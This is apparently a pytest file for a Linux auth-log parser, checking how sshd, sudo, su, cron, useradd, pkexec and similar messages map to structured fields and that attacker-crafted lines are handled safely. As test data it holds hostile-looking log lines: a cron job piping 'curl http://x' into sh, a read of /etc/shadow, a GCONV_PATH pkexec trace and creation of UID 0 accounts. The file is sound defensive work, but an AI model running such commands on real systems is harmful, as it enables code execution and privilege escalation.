"""The Linux auth log: what each program's messages mean, with any header or none, and text that attackers chose."""

from __future__ import annotations

import io
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from collectors.source import Options, Record
from collectors.sources.auth import SOURCE
from engine.errors import MalformedRecordError
from engine.events import Fields, Value

OPTIONS = Options(reference=datetime(2026, 3, 1, tzinfo=UTC))


def read(line: str, *, complete: bool = True) -> Fields:
    parser = SOURCE.open(OPTIONS)
    fields = parser.parse(Record(offset=0, number=1, raw=line.encode()))
    assert fields is not None
    return parser.complete(fields) if complete else fields


def sshd(message: str) -> Fields:
    return read(f"Feb  3 04:05:06 srv sshd[812]: {message}")


def of(fields: Fields, *names: str) -> tuple[Value | None, ...]:
    return tuple(fields.get(name) for name in names)


WHO = ("user.name", "source.ip", "source.port", "event.outcome")


@pytest.mark.parametrize(
    ("message", "user", "address", "port", "outcome"),
    [
        ("Accepted password for anna from 192.0.2.7 port 5022 ssh2", "anna", "192.0.2.7", 5022, "success"),
        (
            "Accepted publickey for anna from 2001:db8::7 port 5022 ssh2: ED25519 SHA256:abc",
            "anna",
            "2001:db8::7",
            5022,
            "success",
        ),
        (
            "Accepted keyboard-interactive/pam for anna from ::ffff:192.0.2.7 port 1 ssh2",
            "anna",
            "192.0.2.7",
            1,
            "success",
        ),
        ("Failed password for invalid user oracle from 192.0.2.7 port 5 ssh2", "oracle", "192.0.2.7", 5, "failure"),
        ("Failed password for illegal user oracle from 192.0.2.7 port 5 ssh2", "oracle", "192.0.2.7", 5, "failure"),
        ("Failed none for invalid user  from 192.0.2.7 port 5 ssh2", None, "192.0.2.7", 5, "failure"),
        ("Postponed publickey for anna from 192.0.2.7 port 5 ssh2 [preauth]", "anna", "192.0.2.7", 5, "unknown"),
        ("Invalid user test user from 192.0.2.7 port 5", "test user", "192.0.2.7", 5, "failure"),
        ("Invalid user test from 192.0.2.7", "test", "192.0.2.7", None, "failure"),
        ("User bob from 192.0.2.7 not allowed because not listed in AllowUsers", "bob", "192.0.2.7", None, "failure"),
        ("User bob not allowed because account is locked", "bob", None, None, "failure"),
        ("ROOT LOGIN REFUSED FROM 192.0.2.7 port 5", "root", "192.0.2.7", 5, "failure"),
        (
            "error: maximum authentication attempts exceeded for root from 192.0.2.7 port 5 ssh2 [preauth]",
            "root",
            "192.0.2.7",
            5,
            "failure",
        ),
        (
            "Disconnecting authenticating user root 192.0.2.7 port 5: Too many authentication failures [preauth]",
            "root",
            "192.0.2.7",
            5,
            "failure",
        ),
        (
            (
                "Disconnecting invalid user a 192.0.2.7 port 5: Change of username or service not allowed: "
                "(a,ssh-connection) -> (b,ssh-connection) [preauth]"
            ),
            "a",
            "192.0.2.7",
            5,
            "failure",
        ),
        ("Connection closed by authenticating user root 192.0.2.7 port 5 [preauth]", "root", "192.0.2.7", 5, "success"),
        ("Connection closed by 192.0.2.7 port 5 [preauth]", None, "192.0.2.7", 5, "success"),
        ("Connection reset by invalid user x y 192.0.2.7 port 5 [preauth]", "x y", "192.0.2.7", 5, "success"),
        ("Disconnected from user anna 192.0.2.7 port 5", "anna", "192.0.2.7", 5, "success"),
        ("Received disconnect from 192.0.2.7 port 5:11: Bye [preauth]", None, "192.0.2.7", 5, "success"),
        ("Received disconnect from 2001:db8::7: 11: disconnected by user", None, "2001:db8::7", None, "success"),
        ("Timeout, client not responding from user anna 192.0.2.7 port 5", "anna", "192.0.2.7", 5, "failure"),
        ("Did not receive identification string from 192.0.2.7 port 5", None, "192.0.2.7", 5, "failure"),
        (
            "Unable to negotiate with 192.0.2.7 port 5: no matching MAC found. Their offer: hmac-md5 [preauth]",
            None,
            "192.0.2.7",
            5,
            "failure",
        ),
        ("banner exchange: Connection from 192.0.2.7 port 5: invalid format", None, "192.0.2.7", 5, "failure"),
        ("Bad protocol version identification 'GET / HTTP/1.1' from 192.0.2.7 port 5", None, "192.0.2.7", 5, "failure"),
        ("fatal: Timeout before authentication for 192.0.2.7 port 5", None, "192.0.2.7", 5, "failure"),
        (
            "Timeout before authentication for connection from 192.0.2.7 to 198.51.100.1, pid = 99",
            None,
            "192.0.2.7",
            None,
            "failure",
        ),
        (
            "drop connection #11 from [192.0.2.7]:5 on [198.51.100.1]:22 past MaxStartups",
            None,
            "192.0.2.7",
            5,
            "failure",
        ),
        (
            "drop connection #0 from [192.0.2.7]:5 on [198.51.100.1]:22 penalty: failed authentication",
            None,
            "192.0.2.7",
            5,
            "failure",
        ),
        (
            "srclimit_penalise: ipv4: new 192.0.2.7/32 active penalty of 15 seconds for penalty: failed login",
            None,
            "192.0.2.7",
            None,
            "failure",
        ),
        ("refused connect from bad.example (192.0.2.7)", None, "192.0.2.7", None, "failure"),
        ("PAM: Authentication failure for illegal user ann from 192.0.2.7", "ann", "192.0.2.7", None, "failure"),
        (
            "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=root",
            "root",
            "192.0.2.7",
            None,
            "failure",
        ),
        (
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 tty=ssh ruser= rhost=192.0.2.7  user=root",
            "root",
            "192.0.2.7",
            None,
            "failure",
        ),
        ("Starting session: shell on pts/0 for anna from 192.0.2.7 port 5 id 0", "anna", "192.0.2.7", 5, "success"),
        ("Close session: user anna from 192.0.2.7 port 5 id 0", "anna", "192.0.2.7", 5, "success"),
        (
            "message repeated 4 times: [ Failed password for root from 192.0.2.7 port 5 ssh2]",
            "root",
            "192.0.2.7",
            5,
            "failure",
        ),
        (
            ("ssh_dispatch_run_fatal: Connection from invalid user x 192.0.2.7 port 5: Connection corrupted [preauth]"),
            "x",
            "192.0.2.7",
            5,
            "failure",
        ),
        (
            "Address 192.0.2.7 maps to a.example, but this does not map back to the address.",
            None,
            "192.0.2.7",
            None,
            "failure",
        ),
        ("error: Could not get shadow information for eva", "eva", None, None, "failure"),
        ("error: Could not get shadow information for NOUSER", None, None, None, "failure"),
        ("pam_systemd(sshd:session): Failed to release session: Interrupted system call", None, None, None, "failure"),
    ],
)
def test_sshd_messages(message: str, user: str | None, address: str | None, port: int | None, outcome: str) -> None:
    assert of(sshd(message), *WHO) == (user, address, port, outcome)


def test_a_log_in_has_all_its_fields() -> None:
    fields = sshd("Accepted publickey for anna from host.example port 5022 ssh2: RSA SHA256:abc")
    assert fields["@timestamp"] == datetime(2026, 2, 3, 4, 5, 6, tzinfo=UTC)
    assert of(fields, "event.action", "event.category", "event.type", "event.dataset", "event.module") == (
        "ssh_login",
        ("authentication", "session"),
        ("start", "info"),
        "system.auth",
        "system",
    )
    assert of(fields, "source.domain", "source.address", "source.ip") == ("host.example", "host.example", None)
    assert of(fields, "system.auth.ssh.method", "system.auth.ssh.signature") == ("publickey", "RSA SHA256:abc")
    assert of(fields, "process.name", "process.pid", "host.name", "host.hostname") == ("sshd", 812, "srv", "srv")
    assert of(fields, "related.user", "related.hosts") == (["anna"], ["srv", "host.example"])
    assert fields["message"].startswith("Accepted publickey")  # type: ignore[union-attr] # a text field


@pytest.mark.parametrize(
    "message",
    [
        "Failed password for invalid user root from 203.0.113.9 port 22 ssh2 from 192.0.2.7 port 5 ssh2",
        "Invalid user x from 203.0.113.9 port 22 from 192.0.2.7 port 5",
        "Connection closed by invalid user a 203.0.113.9 port 22 192.0.2.7 port 5 [preauth]",
        "Bad protocol version identification 'x' from 203.0.113.9 port 22' from 192.0.2.7 port 5",
    ],
)
def test_an_address_inside_a_user_name_is_not_believed(message: str) -> None:
    assert of(sshd(message), "source.ip", "source.port") == ("192.0.2.7", 5)


def test_what_sshd_says_of_its_child_names_both_processes() -> None:
    assert of(sshd("User child is on pid 900"), "process.pid", "process.parent.pid") == (900, 812)


def test_a_redacted_user_is_no_user() -> None:
    fields = sshd("Failed password for invalid user ***** from 192.0.2.7 port 5 ssh2")
    assert "user.name" not in fields
    assert fields["source.ip"] == "192.0.2.7"


def test_a_line_without_a_header() -> None:
    fields = read(" Failed password for root from 192.0.2.7 port 5 ssh2")
    assert of(fields, "process.name", "user.name", "source.ip", "@timestamp") == ("sshd", "root", "192.0.2.7", None)
    assert fields["source.user.name"] == "root"  # only where an intake has taken the header away
    assert "source.user.name" not in sshd("Failed password for root from 192.0.2.7 port 5 ssh2")
    assert read("pam_unix(su:session): session closed for user bob")["process.name"] == "su"
    assert of(read("some words nobody knows"), "message", "process.name") == ("some words nobody knows", None)


def test_an_unknown_message_is_an_event_with_its_program() -> None:
    fields = sshd("something that no version says")
    assert of(fields, "process.name", "message", "event.action") == ("sshd", "something that no version says", None)
    kernel = read("Feb  3 04:05:06 srv kernel: [12.5] eth0: link up")
    assert of(kernel, "process.name", "message") == ("kernel", "[12.5] eth0: link up")


def test_sudo() -> None:
    fields = read(
        "Feb  3 04:05:06 srv sudo:   anna : TTY=pts/1 ; PWD=/home/anna ; USER=root ; COMMAND=/bin/sh -c a ; b COMMAND=c"
    )
    assert of(fields, "user.name", "user.effective.name", "process.command_line", "process.working_directory") == (
        "anna",
        "root",
        "/bin/sh -c a ; b COMMAND=c",
        "/home/anna",
    )
    assert of(fields, "system.auth.sudo.tty", "system.auth.sudo.user", "event.outcome") == ("pts/1", "root", "success")


@pytest.mark.parametrize(
    "reason",
    ["user NOT in sudoers", "command not allowed", "3 incorrect password attempts", "a password is required"],
)
def test_sudo_refuses(reason: str) -> None:
    fields = read(f"Feb  3 04:05:06 srv sudo: eve : {reason} ; TTY=pts/1 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/id")
    assert of(fields, "event.outcome", "event.reason", "system.auth.sudo.error") == ("failure", reason, reason)
    assert of(fields, "user.name", "user.effective.name") == ("eve", "#-1")


@pytest.mark.parametrize(
    ("program", "message", "expected"),
    [
        (
            "su[1]",
            "(to root) anna on pts/0",
            {"user.name": "anna", "user.effective.name": "root", "event.outcome": "success"},
        ),
        ("su[1]", "FAILED SU (to root) anna on pts/0", {"user.effective.name": "root", "event.outcome": "failure"}),
        (
            "su[1]",
            "- /dev/pts/1 anna:root",
            {"user.name": "anna", "event.outcome": "failure", "system.auth.tty": "pts/1"},
        ),
        ("su[1]", "Successful su for root by anna", {"user.name": "anna", "user.effective.name": "root"}),
        (
            "su(pam_unix)[1]",
            "session opened for user root by anna(uid=500)",
            {"user.name": "anna", "user.id": "500", "user.effective.name": "root", "process.name": "su"},
        ),
        (
            "sshd[1]",
            "pam_unix(sshd:session): session opened for user anna(uid=1000) by (uid=0)",
            {"user.name": "anna", "user.id": "1000", "event.action": "logged-on"},
        ),
        (
            "CRON[1]",
            "pam_unix(cron:session): session opened for user root by (uid=0)",
            {"user.name": "root", "user.id": "0", "system.auth.pam.uid": "0"},
        ),
        (
            "CRON[1]",
            "(root) CMD (curl http://x | sh)",
            {"user.name": "root", "process.command_line": "curl http://x | sh", "event.category": ("process",)},
        ),
        ("crontab[1]", "(anna) REPLACE (anna)", {"user.name": "anna", "event.action": "changed-crontab"}),
        (
            "login[1]",
            "FAILED LOGIN (2) on '/dev/tty1' FOR 'root', Authentication failure",
            {"user.name": "root", "event.outcome": "failure"},
        ),
        ("login[1]", "ROOT LOGIN ON tty1", {"user.name": "root", "event.outcome": "success"}),
        (
            "useradd[1]",
            "new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=pts/0",
            {"user.name": "eve", "user.id": "0", "group.id": "0", "event.type": ("user", "creation")},
        ),
        ("useradd[1]", "add 'eve' to group 'sudo'", {"user.name": "eve", "group.name": "sudo"}),
        ("userdel[1]", "delete user 'eve'", {"user.name": "eve", "event.type": ("user", "deletion")}),
        ("groupadd[1]", "group added to /etc/group: name=ops, GID=900", {"group.name": "ops", "group.id": "900"}),
        ("usermod[1]", "change user 'eve' UID from '1001' to '0'", {"user.name": "eve", "user.id": "0"}),
        (
            "gpasswd[1]",
            "user eve added by root to group wheel",
            {"user.name": "root", "user.target.name": "eve", "group.name": "wheel"},
        ),
        (
            "passwd[1]",
            "pam_unix(passwd:chauthtok): password changed for eve",
            {"user.name": "eve", "event.action": "changed-password"},
        ),
        ("passwd[1]", "password for 'eve' changed by 'root'", {"user.name": "root", "user.target.name": "eve"}),
        ("systemd-logind[1]", "New session 12 of user anna.", {"user.name": "anna", "system.auth.session.id": "12"}),
        (
            "systemd-logind[1]",
            "New session 'c1' of user 'anna' with class 'user' and type 'tty'.",
            {"user.name": "anna", "system.auth.session.id": "c1"},
        ),
        (
            "pkexec[1]",
            (
                "eve: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/1] "
                "[CWD=/tmp/x] [COMMAND=GCONV_PATH=./a b]"
            ),
            {"user.name": "eve", "event.outcome": "failure"},
        ),
        ("sftp-server[1]", 'open "/etc/shadow" flags READ mode 0666', {"file.path": "/etc/shadow"}),
        (
            "dropbear[1]",
            "Bad password attempt for 'root' from 192.0.2.7:5022",
            {"source.ip": "192.0.2.7", "source.port": 5022, "event.outcome": "failure"},
        ),
        (
            "sshd[1]",
            "pam_faillock(sshd:auth): Consecutive login failures for user eve account temporarily locked",
            {"user.name": "eve", "event.action": "account_locked"},
        ),
        (
            "sshd[1]",
            "pam_winbind(sshd:account): user 'EXAMPLE\\anna' granted access",
            {"user.name": "anna", "user.domain": "EXAMPLE", "event.outcome": "success"},
        ),
        (
            "sshd[1]",
            'pam_succeed_if(sshd:auth): requirement "uid >= 1000" not met by user "root"',
            {"user.name": "root", "event.outcome": "failure"},
        ),
    ],
)
def test_programs(program: str, message: str, expected: Fields) -> None:
    fields = read(f"Feb  3 04:05:06 srv {program}: {message}")
    assert {name: fields.get(name) for name in expected} == expected


def test_bytes_that_are_no_text_are_dead_letters() -> None:
    with pytest.raises(MalformedRecordError):
        SOURCE.open(OPTIONS).parse(Record(offset=0, number=1, raw=b"\x00\x01\x02PK"))
    assert SOURCE.open(OPTIONS).parse(Record(offset=0, number=1, raw=b"   ")) is None


@pytest.mark.parametrize(
    ("head", "known"),
    [
        (b"Feb  3 04:05:06 srv sshd[1]: x\n", True),
        (b"2026-02-03T04:05:06.123456+01:00 srv sudo: a : b\n", True),
        (b"<86>1 2026-02-03T04:05:06Z srv sshd 1 - - Accepted\n", True),
        (b" Failed password for root from 192.0.2.7 port 5 ssh2\n", True),
        (b'192.0.2.7 - - [03/Feb/2026:04:05:06 +0000] "GET / HTTP/1.1" 200 1\n', False),
        (b"2026-02-03 04:05:06 GET /sshd: 80 - 192.0.2.7 sshd 200\n", False),
        (b'{"message":"sshd[1]: x"}\n', False),
        (b"type=SYSCALL msg=audit(1.2:3): a=b\n", False),
        (b"", False),
    ],
)
def test_recognition(head: bytes, known: bool) -> None:
    score = SOURCE.recognise(head, "x")
    assert (score >= 60) if known else (score < 40)


@settings(max_examples=200)
@given(st.binary(max_size=200), st.sampled_from([b"", b"Feb  3 04:05:06 h sshd[1]: ", b"Feb  3 04:05:06 h sudo: a : "]))
def test_any_bytes_are_an_event_or_a_dead_letter(raw: bytes, header: bytes) -> None:
    parser = SOURCE.open(OPTIONS)
    for record in SOURCE.frame(io.BytesIO(header + raw)):
        try:
            fields = parser.parse(record)
        except MalformedRecordError:
            continue
        if fields is not None:
            assert "message" in parser.complete(fields)


@pytest.mark.parametrize(
    "filler", [" from ", "user ", " port 1", "a b ", "' ", " on pts/0 for ", ": ", "COMMAND=", "(x) "]
)
@pytest.mark.parametrize(
    "start",
    [
        "Failed password for ",
        "Invalid user ",
        "Connection closed by invalid user ",
        "User ",
        "PAM: A",
        "Starting session: ",
        "Starting session: forced-command (x) ",
        "pam_unix(sshd:auth): ",
        "Disconnecting invalid user ",
        "Authentication tried for ",
    ],
)
def test_long_hostile_messages_take_linear_time(start: str, filler: str) -> None:
    line = f"Feb  3 04:05:06 h sshd[1]: {start}{filler * (200_000 // len(filler))}"
    begun = time.process_time()
    read(line, complete=False)
    assert time.process_time() - begun < 2


def test_real_logs_are_read_whole(shared: Path) -> None:
    raw = (shared / "anomaly" / "auth-ssh" / "auth.log").read_bytes()
    assert SOURCE.recognise(raw[:65536], "log") >= 60
    parser = SOURCE.open(OPTIONS)
    events = [parser.parse(record) for record in SOURCE.frame(io.BytesIO(raw))]
    assert all(fields is not None and "@timestamp" in fields and "process.name" in fields for fields in events)
